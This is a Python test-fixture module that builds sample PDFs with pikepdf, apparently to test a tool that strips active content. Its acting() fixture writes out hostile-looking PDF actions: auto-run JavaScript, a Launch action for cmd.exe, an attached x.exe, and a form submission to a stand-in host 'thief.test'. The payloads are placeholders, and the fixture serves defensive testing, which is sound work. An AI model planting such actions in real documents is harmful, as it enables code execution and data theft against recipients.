"""PDFs as strangers send them."""

import io
from collections.abc import Sequence
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

WIDTH, HEIGHT = 400, 600


def pages(count: int = 1, *, turn: int = 0, crop: Sequence[int] = ()) -> pikepdf.Pdf:
    """Pages that say `Agreement body` near their top left, turned and cropped."""
    pdf = pikepdf.new()
    for _ in range(count):
        pdf.add_blank_page(page_size=(WIDTH, HEIGHT))
        page = pdf.pages[-1]
        helvetica = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=helvetica))
        page.contents_add(b"BT /F1 18 Tf 80 500 Td (Agreement body) Tj ET")
        if turn:
            page.obj.Rotate = turn
        if crop:
            page.obj.CropBox = Array(list(crop))
    return pdf


def written(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    """Its bytes, the same ones each time."""
    target = io.BytesIO()
    pdf.save(target, **{"deterministic_id": "encryption" not in options, **options})
    return target.getvalue()


def laid_open(content: bytes) -> bytes:
    """The same PDF without compression, to be searched."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        return written(
            pdf,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )


def acting() -> pikepdf.Pdf:
    """A page with everything that acts by itself, and a link that may stay."""
    pdf = pages()
    script = Dictionary(S=Name.JavaScript, JS=String("evil_script"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    named = Array([String("x"), pdf.make_indirect(script)])
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=named))
    pdf.attachments["x.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ-payload", filename="x.exe")
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=script)
    page.obj.Annots = Array(
        [
            pdf.make_indirect(_link(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
            _link(Dictionary(S=Name.SubmitForm, F=String("https://thief.test"))),
            _link(Dictionary(S=Name.URI, URI=String("https://chain.test"), Next=script)),
            _link(Dictionary(S=Name.URI, URI=String("https://terms.test"))),
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=_corner()),
        ]
    )
    return pdf


def form() -> pikepdf.Pdf:
    """A page with a field somebody has filled in."""
    pdf = pages()
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("name"),
        V=String("Typed before"),
        DA=String("/F1 12 Tf 0 g"),
        Rect=Array([50, 300, 250, 320]),
        F=4,
    )
    widget = pdf.make_indirect(field)
    resources = Dictionary(Font=pdf.pages[0].obj.Resources.Font)
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([widget]), DR=resources, NeedAppearances=True, DA=String("/F1 12 Tf 0 g")
    )
    pdf.pages[0].obj.Annots = Array([widget])
    return pdf


def _link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=_corner(), A=action)


def _corner() -> Array:
    return Array([0, 0, 9, 9])
